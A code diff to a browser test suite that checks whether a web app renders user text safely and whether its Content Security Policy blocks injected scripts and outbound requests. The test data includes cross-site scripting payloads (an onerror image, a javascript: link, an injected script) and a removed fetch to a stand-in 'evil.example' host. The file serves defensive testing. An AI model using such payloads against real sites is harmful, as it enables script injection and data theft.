@@ -1,3 +1,6 @@
+import { createServer } from 'node:http'
+import type { AddressInfo } from 'node:net'
+import type { Page } from 'playwright-core'
 import { beforeAll, expect, test } from 'vitest'
 import { visitor } from '../support/browser'
 import * as releases from '../support/releases'
@@ -56,13 +59,15 @@ const PLACES = [
 
 test.each(PLACES)('text is only ever text on %s', async (place) => {
   const someone = await visitor()
-  // What is no beginning of a device's id is refused, where it was asked for.
-  someone.expectsComplaint(/400/)
+  // What is no beginning of a device's id is refused, where it was asked for; and the image below is not there.
+  someone.expectsComplaint(/400|404.*\/x\)/)
   const { page } = someone
   await page.goto(place === 'the release' ? `/releases/${release}` : place)
   await page.locator('main h1').waitFor()
   await page.locator('[data-live="live"]').waitFor()
-  await page.waitForTimeout(1_000)
+  await page.waitForLoadState('networkidle')
+  // One more image that is not there has failed: so have all that came before.
+  await page.evaluate(() => new Promise((failed) => Object.assign(new Image(), { onerror: failed, src: '/x' })))
   expect(await page.evaluate(() => (window as unknown as { hacked?: number }).hacked)).toBeUndefined()
   expect(await page.locator('main img, main script, main svg[onload], main [href^="javascript:" i]').count()).toBe(0)
   for (const width of [1280, 768]) {
@@ -87,13 +92,37 @@ test('what a person writes comes back as they wrote it', async () => {
   expect(reasons.map(({ reason }) => reason)).toEqual([HOSTILE])
 })
 
-test('the policy stops what would get past', async () => {
+test('the policy stops what gets past without it', async () => {
   const someone = await visitor()
   const { page } = someone
-  await page.goto('/tasks')
-  await page.getByRole('heading', { name: 'Tasks' }).waitFor()
-  someone.expectsComplaint(/Content Security Policy|Refused to/i)
-  const outcome = await page.evaluate(async () => {
+  someone.expectsComplaint(/Content Security Policy|Refused to|ERR_|Failed to load resource|blocked by CORS/i)
+  const elsewhere = await listening()
+  try {
+    await page.goto('/tasks')
+    await page.getByRole('heading', { name: 'Tasks' }).waitFor()
+    expect(await attacked(page, elsewhere.address)).toEqual({ hacked: false, sent: false })
+    expect(elsewhere.asked).toEqual([])
+    await fetch(`${elsewhere.address}asked`)
+    expect(elsewhere.asked, 'it is there for whoever may ask').toEqual(['/asked'])
+
+    await page.route(`${world.url}/tasks`, async (route) => {
+      const response = await route.fetch()
+      const { 'content-security-policy': policy, ...headers } = response.headers()
+      expect(policy).toContain("default-src 'none'")
+      await route.fulfill({ response, headers })
+    })
+    await page.reload()
+    await page.getByRole('heading', { name: 'Tasks' }).waitFor()
+    // A page that was intercepted may not ask this machine for anything, by another rule of the browser.
+    expect(await attacked(page, elsewhere.address)).toMatchObject({ hacked: true })
+  } finally {
+    await elsewhere.close()
+  }
+})
+
+/** Whether scripts that get into the page run, and whether it can send something to another origin. */
+async function attacked(page: Page, elsewhere: string): Promise<{ hacked: boolean; sent: boolean }> {
+  return page.evaluate(async (address) => {
     const host = document.createElement('div')
     host.innerHTML = '<img src="data:," onerror="window.hacked=1"><a href="javascript:window.hacked=2">x</a>'
     document.body.append(host)
@@ -101,12 +130,34 @@ test('the policy stops what would get past', async () => {
     const script = document.createElement('script')
     script.textContent = 'window.hacked=3'
     document.body.append(script)
-    const sent = await fetch('https://evil.example/', { mode: 'no-cors' }).then(
-      () => 'sent',
-      () => 'refused',
+    const sent = await fetch(`${address}fetched`, { mode: 'no-cors' }).then(
+      () => true,
+      () => false,
     )
-    await new Promise((resolve) => setTimeout(resolve, 500))
-    return { hacked: (window as unknown as { hacked?: number }).hacked ?? null, sent }
+    for (const name of ['image', 'script'] as const) {
+      const loaded = name === 'image' ? new Image() : document.createElement('script')
+      const settled = new Promise((done) => Object.assign(loaded, { onload: done, onerror: done }))
+      loaded.src = address + name
+      document.body.append(loaded)
+      await settled
+    }
+    return { hacked: 'hacked' in window, sent }
+  }, elsewhere)
+}
+
+/** Another origin on this machine, which notes what it is asked for. */
+async function listening() {
+  const asked: string[] = []
+  const server = createServer((request, response) => {
+    asked.push(request.url ?? '')
+    response.end()
   })
-  expect(outcome).toEqual({ hacked: null, sent: 'refused' })
-})
+  await new Promise<void>((ready) => server.listen(0, '127.0.0.1', ready))
+  const { port } = server.address() as AddressInfo
+  const close = () =>
+    new Promise((done) => {
+      server.close(done)
+      server.closeAllConnections()
+    })
+  return { asked, address: `http://127.0.0.1:${port}/`, close }
+}
